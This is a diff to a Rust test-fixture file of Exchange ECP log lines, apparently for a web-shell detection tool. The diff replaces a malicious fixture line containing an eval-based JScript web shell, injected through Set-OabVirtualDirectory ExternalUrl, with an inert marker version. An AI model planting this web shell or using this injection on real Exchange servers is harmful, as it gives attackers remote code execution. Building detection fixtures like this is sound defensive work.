@@ -161,7 +161,7 @@ pub const ECP_BENIGN: [&str; 3] = [
     "2021-03-05T16:40:02.117Z,EX01,ECP.Request,S:TIME=22;S:SID=3b1f6a2c-9d4e-4c17-8a25-e60f1b7d9c32;S:CMD=Get-OabVirtualDirectory;S:REQID=;S:URL=/ecp/DDI/DDIService.svc/GetList?schema=OABVirtualDirectory&msExchEcpCanary=Tm9wZQ;S:REFERRER=;S:EX=;S:ACTID=3c7e0c55-3f2b-4e91-9d68-b0c4f7a2e813;S:RS=0;S:BLD=15.1.2106.2;S:TNAME=<null>;S:TID=;S:USID=e2d94b10-6c3a-4f7e-8b25-71a0c9d3f4e6;S:EDOID=;S:ACID=",
 ];
 
-pub const ECP_MALICIOUS: &str = r#"2021-02-11T04:30:58.214Z,EX01,ECP.Request,"S:TIME=402;S:SID=8c0f2e71-5a4d-4b39-a6e2-0d9b3c7f1e58;'S:CMD=Set-OabVirtualDirectory.ExternalUrl=''http://k/<script language=""JScript"" runat=""server"">function Page_Load(){eval(Request[""zq7w""],""unsafe"");}</script>''.Identity=''5d0c7a3e-91f2-4c6b-8e2a-3b7f0e1d9c44''';S:REQID=;S:URL=/ecp/DDI/DDIService.svc/SetObject?schema=OABVirtualDirectory&msExchEcpCanary=VGVzdA;S:REFERRER=;S:EX=;S:ACTID=47b2d9e0-8c13-4f6a-b5e7-2a9c0d4e1f73;S:RS=0;S:BLD=15.1.2106.2;S:TNAME=<null>;S:TID=;S:USID=9f3a7c21-0b5e-4d8a-a1c6-e74b2d09f5c8;S:EDOID=;S:ACID=""#;
+pub const ECP_MALICIOUS: &str = r#"2021-02-11T04:30:58.214Z,EX01,ECP.Request,"S:TIME=402;S:SID=8c0f2e71-5a4d-4b39-a6e2-0d9b3c7f1e58;'S:CMD=Set-OabVirtualDirectory.ExternalUrl=''http://k/<script language=""JScript"" runat=""server"">function Page_Load(){Response.Write(""exhunt-test-zq7w"");}</script>''.Identity=''5d0c7a3e-91f2-4c6b-8e2a-3b7f0e1d9c44''';S:REQID=;S:URL=/ecp/DDI/DDIService.svc/SetObject?schema=OABVirtualDirectory&msExchEcpCanary=VGVzdA;S:REFERRER=;S:EX=;S:ACTID=47b2d9e0-8c13-4f6a-b5e7-2a9c0d4e1f73;S:RS=0;S:BLD=15.1.2106.2;S:TNAME=<null>;S:TID=;S:USID=9f3a7c21-0b5e-4d8a-a1c6-e74b2d09f5c8;S:EDOID=;S:ACID=""#;
 
 pub fn oab_line(time: &str, path: &str) -> String {
     format!(
